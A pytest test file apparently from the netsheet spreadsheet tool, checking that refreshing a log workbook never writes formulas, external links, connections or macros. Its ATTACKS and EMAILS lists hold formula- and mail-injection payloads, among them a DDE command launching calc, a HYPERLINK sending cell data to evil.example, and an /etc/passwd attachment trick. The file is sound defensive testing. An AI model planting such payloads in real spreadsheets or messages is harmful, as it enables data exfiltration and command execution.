"""Formula injection: whatever stands in a log, nothing that netsheet writes is ever calculated or opened by itself."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from netsheet.core.column_places import OWNED_COLUMNS
from tests.command_line import run
from tests.test_refresh_cli import opened

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Ana")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=1+1",
    '=WEBSERVICE("http://evil.example")',
    "{=1+1}",
    "http://evil.example/",
    "mailto:evil@example.com?body=x",
    "internal:Sheet1!A1",
    "external:\\\\evil\\share\\x.xlsx",
    "<script>alert(1)</script>",
    "&a11; ]]> <f>1+1</f>",
    "_x003D_1+1",
]
HEADINGS = [
    "Name",
    "Company",
    "Email",
    "Channel",
    "Template",
    "Subject",
    "Date Sent",
    "Responded",
    "Follow-up",
    "Source",
]
INSIDE = re.compile(rb"'?(Log|Netsheet Summary)'?!\$?[A-Z]+\$?\d+")
MAILTO = re.compile(
    rb"mailto:[\w.+-]+@[\w.-]+"
)  # an address and nothing else: no subject, text or attachment
EMAILS = [
    "p{}@example.com",
    "q{}@example.com?body=x&attach=/etc/passwd",
    "mailto:r{}@example.com?bcc=evil@example.com",
    "s{}@example.com\nBcc: evil@example.com",
]
DAYS = ["2026-02-01", "2026-02-20", "2026-03-01", "2026-03-09"]


@pytest.fixture
def log(tmp_path: Path) -> Path:
    """Write a log with an attack in every field of every person."""
    workbook = openpyxl.Workbook()
    sheet = workbook.worksheets[0]
    sheet.title = "Log"
    sheet.append(HEADINGS)
    for number, attack in enumerate(ATTACKS * 2):
        row = [attack, attack, EMAILS[number % 4].format(number), attack, attack, attack, DAYS[number % 4], "Yes" if number % 3 else "", attack, attack]  # fmt: skip
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(number + 2, column)
            cell.value = value.replace("\r\n", " ")
            cell.data_type = "s"
    path = tmp_path / "log.xlsx"
    workbook.save(path)
    return path


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_no_formula_link_or_connection_comes_into_the_log(log: Path) -> None:
    before = parts(log)
    assert run("refresh", log).exit_code == 0
    after = parts(log)

    written = {name: data for name, data in after.items() if before.get(name) != data}
    assert any("worksheets/sheet2" in name for name in written)
    for name, data in written.items():
        if "worksheets/" in name and not name.endswith(".rels"):
            assert not re.search(rb"<(?:x:)?f[\s>/]", data), name
            for link in re.findall(rb"<hyperlink [^>]*>", data):
                place = re.search(rb' location="([^"]*)"', link)
                is_ours = place is not None and INSIDE.fullmatch(place[1].replace(b"&apos;", b"'"))
                assert is_ours or (place is None and b" r:id=" in link), link
        if name.endswith(".rels"):
            for target in re.findall(rb'<Relationship [^>]*Target="([^"]*)"[^>]*TargetMode', data):
                assert MAILTO.fullmatch(target), target
    assert not any(word in name for name in after for word in ("externalLink", "connections", "vba", "macro"))


def test_every_text_cell_of_ours_is_an_inline_text(log: Path) -> None:
    run("refresh", log)

    sheet = parts(log)["xl/worksheets/sheet1.xml"].decode()
    first = len(HEADINGS)
    ours = {chr(ord("A") + first + number) for number in range(len(OWNED_COLUMNS))}
    cells = re.findall(r'<c r="([A-Z]+)\d+"([^>]*[^/>])>(.*?)</c>', sheet)
    kinds = {re.sub(r' s="\d+"', "", attributes) for column, attributes, _ in cells if column in ours}

    assert kinds <= {' t="inlineStr"', ""}
    assert all(
        content.startswith("<v>")
        for column, attributes, content in cells
        if column in ours and "t=" not in attributes
    )


def test_openpyxl_sees_no_formula_in_what_is_ours(log: Path) -> None:
    run("refresh", log)

    book = opened(log.read_bytes())
    summary = book["Netsheet Summary"]
    assert summary.max_row > 3
    assert all(cell.data_type != "f" for row in summary.iter_rows() for cell in row)
    columns = range(len(HEADINGS) + 1, len(HEADINGS) + len(OWNED_COLUMNS) + 1)
    assert all(book["Log"].cell(row, column).data_type != "f" for row in range(1, 40) for column in columns)


def test_no_command_writes_a_text_table(log: Path, own_state_folder: Path) -> None:
    run("refresh", log)
    run("draft", log, "--out", log.parent / "drafts", "--format", "eml,txt")
    run("settings", log)

    written = [
        path for folder in (log.parent, own_state_folder) for path in folder.rglob("*") if path.is_file()
    ]
    assert {path.suffix for path in written}.isdisjoint({".csv", ".tsv"})


def test_the_summary_of_a_refreshed_log_is_read_again_without_harm(log: Path) -> None:
    run("refresh", log)
    first = log.read_bytes()

    assert run("refresh", log).exit_code == 0
    assert log.read_bytes() == first
    assert run("check", log).exit_code in (0, 1)
